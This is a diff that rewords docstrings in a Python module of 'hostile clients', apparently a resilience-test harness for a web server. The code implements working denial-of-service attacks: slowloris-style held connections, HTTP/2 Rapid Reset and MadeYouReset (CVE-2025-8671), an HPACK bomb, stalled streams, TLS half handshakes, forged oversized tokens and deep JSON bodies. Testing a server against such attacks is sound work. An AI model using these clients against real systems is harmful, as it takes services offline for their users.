@@ -1,4 +1,4 @@
-"""Hostile clients. Each runs in a process of its own, from the address of its index, and counts what became of it."""
+"""Hostile clients. Each runs in a separate process, from the address of its index, and counts the results."""
 
 import base64
 import collections
@@ -26,7 +26,7 @@ def now() -> float:
     return time.monotonic()
 
 
-# --- clients that hold ------------------------------------------------------------------------------------------------
+# --- clients that keep connections open ------------------------------------------------------------------------------------------------
 
 
 def outcome(held: Wire) -> str:
@@ -43,7 +43,7 @@ def outcome(held: Wire) -> str:
 
 
 def hold(connect: Callable[[], Wire], drip: bytes, count: int, end: float, pause=1.0, reading=True) -> Counts:
-    """Keeps `count` connections open and gives each a `drip` every `pause`; those that end are opened anew."""
+    """Keeps `count` connections open and sends each a `drip` every `pause`; a connection that ends is replaced."""
     counts, open_ = Counts(), []
     while now() < end:
         look = now() + pause
@@ -99,39 +99,39 @@ def slow_bodies(site, index, end):
 
 
 def large_bodies(site, index, end):
-    """Nine tenths of the largest body, and then nothing."""
+    """Sends nine tenths of the largest body, and then nothing."""
     first = http1("/signed", f"X-Signature: {SIGNATURE}", body=1 << 20) + b"x" * 943_000
     return hold(lambda: opened(Wire(site.port, address(index)), first, end), b"", 40, end, pause=0.2)
 
 
-def unread_replies(site, index, end):
+def unread_responses(site, index, end):
     first = http1("/public/large", method="GET")
     connect = lambda: opened(Wire(site.port, address(index), receive_buffer=4096), first, end, reading=False)
     return hold(connect, b"", 25, end, reading=False)
 
 
-def unread_replies_http2(site, index, end):
-    """A hundred streams of each connection, none of which ever has a window. Replies small enough for the kernel."""
+def unread_responses_http2(site, index, end):
+    """A hundred streams on each connection, each with a window of 0. The responses fit into the kernel's buffers."""
     first = b"".join(frame(w.HEADERS, 5, stream, request("/public/medium", "GET")) for stream in range(1, 200, 2))
     return hold(lambda: opened(Http2(site.port, address(index), w.setting(4, 0)), first, end), b"", 5, end)
 
 
 def stalled_streams(site, index, end):
-    """A hundred streams of each connection, each with a beginning of a body."""
+    """A hundred streams on each connection, each with the beginning of a body."""
     head = request("/signed", "POST", ("x-signature", SIGNATURE))
     first = b"".join(frame(w.HEADERS, 4, stream, head) + frame(w.DATA, 0, stream, b"x" * 500) for stream in range(1, 200, 2))
     return hold(lambda: opened(Http2(site.port, address(index)), first, end), b"", 50, end)
 
 
 def refused_streams(site, index, end):
-    """A hundred streams of each connection that are refused at once, while their bodies never come."""
+    """A hundred streams on each connection that are rejected at once, while their bodies never arrive."""
     head = request("/webhook", "POST")
     first = b"".join(frame(w.HEADERS, 4, stream, head) for stream in range(1, 200, 2))
     return hold(lambda: opened(Http2(site.port, address(index)), first, end), b"", 50, end)
 
 
 def stalled_streams_with_large_heads(site, index, end):
-    """The same, with heads as large as they may be."""
+    """Like `stalled_streams`, with headers of the largest allowed size."""
     head = request("/signed", "POST", ("x-signature", SIGNATURE), ("x", "a" * 15_000), ("y", "b" * 15_000))
     def stream(number):
         return frame(w.HEADERS, 0, number, head[:16_000]) + frame(w.CONTINUATION, 4, number, head[16_000:])
@@ -143,7 +143,7 @@ def stalled_streams_with_large_heads(site, index, end):
 
 
 def silent_connections(site, index, end, source):
-    """As many as one process can hold, all at once, and then silence."""
+    """Opens as many connections as one process can hold, and then sends nothing."""
     counts, open_ = Counts(), []
     while now() < end - 1 and len(open_) < 1500:
         try:
@@ -173,7 +173,7 @@ def client_hello() -> bytes:
 
 
 def half_handshakes(site, index, end):
-    """The server has done its part, the client never answers."""
+    """Sends a ClientHello and never continues after the server's part of the TLS handshake."""
     hello, counts, open_ = client_hello(), Counts(), collections.deque()
     while now() < end:
         if len(open_) >= HOLDERS:
@@ -199,7 +199,7 @@ def half_handshakes(site, index, end):
 
 
 def abandoned_handshakes(site, index, end):
-    """As many as possible: a ClientHello, a look at the answer, a reset."""
+    """Repeats as fast as possible: a ClientHello, one read of the response, a reset."""
     hello, counts = client_hello(), Counts()
     while now() < end:
         try:
@@ -231,7 +231,7 @@ def tally(counts: Counts, held: Http2, frames: list[Frame]) -> None:
 
 
 def flood(site, index, end, chunks, settings=b"") -> Counts:
-    """Sends `chunks` of (units, bytes) on one connection after the other. Every second process reads no answers."""
+    """Sends `chunks` of (units, bytes) on one connection after the other. Every second process reads no responses."""
     counts, reading = Counts(), index % 2 == 0
     while now() < end:
         try:
@@ -255,7 +255,7 @@ def flood(site, index, end, chunks, settings=b"") -> Counts:
 
 
 def streams_of(one: Callable[[int], bytes], number=200):
-    """Chunks of so many streams each, until the numbers end."""
+    """Chunks of `number` streams each, until the stream identifiers are used up."""
     ids = range(1, 1 << 24, 2)
     return lambda: ((number, b"".join(one(stream) for stream in ids[at:at + number])) for at in range(0, len(ids), number))
 
@@ -266,7 +266,7 @@ def rapid_reset(site, index, end):
 
 
 def made_you_reset(site, index, end):
-    """The server is made to reset each stream itself, by an increment of zero (CVE-2025-8671)."""
+    """Makes the server reset each stream itself, by a window increment of zero (CVE-2025-8671)."""
     head = request("/public/small", "GET")
     return flood(site, index, end, streams_of(lambda s: frame(w.HEADERS, 5, s, head) + frame(w.WINDOW_UPDATE, 0, s, bytes(4))))
 
@@ -304,7 +304,7 @@ def unknown_frames(site, index, end):
 
 
 def window_updates(site, index, end):
-    """Ones without end, and on every other connection more than there can be (RFC 9113 §6.9.1)."""
+    """Endless increments of 1, and on half of the connections a window beyond its maximum (RFC 9113 §6.9.1)."""
     def chunks():
         if secrets.randbelow(2):
             return iter([(2, frame(w.WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2)])
@@ -313,7 +313,7 @@ def window_updates(site, index, end):
 
 
 def hpack_bomb(site, index, end):
-    """One field of 4000 bytes into the table, and then ten thousand references to it in each head: 40 MB of fields."""
+    """One header of 4000 bytes in the table, then ten thousand references to it in each request: 40 MB of headers."""
     first = request() + b"\x40" + w.text("bomb") + w.text("x" * 4000) + b"\xbe" * 10_000
     rest = request() + b"\xbe" * 10_000
     return flood(site, index, end, streams_of(lambda s: frame(w.HEADERS, 5, s, first if s == 1 else rest), 20))
@@ -323,7 +323,7 @@ def hpack_bomb(site, index, end):
 
 
 def batches(site, index, end, requests: list[bytes]) -> Counts:
-    """Sends all of them without waiting in between, on one connection after the other, and counts the answers."""
+    """Sends all `requests` without waiting in between, on one connection after the other, and counts the responses."""
     counts, held = Counts(), None
     blob = b"".join(requests)
     while now() < end:
@@ -380,14 +380,14 @@ def deep_tokens(site, index, end):
 
 
 def largest_tokens(site, index, end):
-    """As long as a token may be, well-formed up to its forged signature."""
+    """Tokens of the largest allowed length, well-formed except for the forged signature."""
     header, payload = (b64(json.dumps(part).encode()) for part in ({"alg": "ES256", "kid": "one"}, {"iss": "x" * 5900}))
     tokens = [f"{header}.{payload}.{b64(secrets.token_bytes(64))}" for _ in range(100)]
     return batches(site, index, end, [bearer(token) for token in tokens])
 
 
 def json_bodies(site, index, end):
-    """A MiB each: as deep as it goes, or as many members as fit."""
+    """Bodies of 1 MiB: nested as deeply as possible, or with as many members as fit."""
     members = b"{" + b",".join(b'"%05d":0' % number for number in range(104_000)) + b"}"
     return batches(site, index, end, [http1("/json", body=len(body)) + body for body in (b"[" * (1 << 20), b'{"a":' * 209_000, members)])
 
@@ -409,7 +409,7 @@ def unknown_paths(site, index, end):
 
 
 def unread_pipelines(site, index, end):
-    """Requests without end, of whose answers none is read."""
+    """Endless requests whose responses are never read."""
     blob = bearer("x.y.z") * 20_000
     connect = lambda: opened(Wire(site.port, address(index)), blob, end, reading=False)
     return hold(connect, b"", 10, end, reading=False)
